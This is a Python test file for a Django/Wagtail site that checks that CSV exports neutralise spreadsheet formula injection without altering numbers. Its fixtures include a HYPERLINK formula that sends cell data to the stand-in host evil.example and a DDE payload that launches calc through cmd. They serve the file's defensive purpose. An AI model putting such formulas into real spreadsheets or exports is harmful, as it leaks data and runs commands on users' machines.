"""Every CSV the site produces neutralises spreadsheet formulas, without corrupting numbers."""

from __future__ import annotations

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from website.csv_safety import FORMULA_STARTS, neutralise_cell

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'


@pytest.mark.parametrize("value", [ATTACK, "+33 6 00", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-12.5, -3, "-12,5", "-1\u202f234", "-3.2e5", "+4", "Soudeur", "", None, 0])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert neutralise_cell(value) == value


@given(st.text())
def test_no_cell_ever_starts_with_a_formula_unless_it_is_a_number(text):
    cell = neutralise_cell(text)
    if cell.startswith(FORMULA_STARTS):
        float(cell.replace(",", ".").replace("\u202f", "").replace("\u00a0", "").replace(" ", ""))


@pytest.mark.django_db
def test_a_feedback_comment_comes_back_neutralised_in_the_admin_export(admin_client, home_page):
    from django.utils import timezone

    from audience.models import PageFeedback

    PageFeedback.objects.create(page=home_page, day=timezone.localdate(), useful=False, comment=ATTACK)
    response = admin_client.get(reverse("audience_feedback_report"), {"format": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in body


@pytest.mark.django_db
def test_an_api_label_and_a_snippet_export_come_back_neutralised(client, admin_client, home_page):
    from careers.models import Company
    from observatory.models import RomeOccupation

    RomeOccupation.objects.create(code="H9999", label=ATTACK, domain="H")
    csv_text = client.get("/api/v1/occupations/", {"format": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ";=HYPERLINK" not in csv_text
    Company.objects.create(name=ATTACK)
    response = admin_client.get(reverse("wagtailsnippets_careers_company:list") + "?export=csv")
    exported = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8")
    assert "'=HYPERLINK" in exported


def test_every_registered_snippet_listing_exports_safe_csv():
    from wagtail.snippets.models import get_snippet_models

    from website.admin_exports import SafeCsvIndexView

    for model in get_snippet_models():
        viewset = model.snippet_viewset
        if viewset.__module__.startswith("wagtail."):
            continue  # Wagtail's own snippets (none export CSV here)
        assert issubclass(viewset.index_view_class, SafeCsvIndexView), model
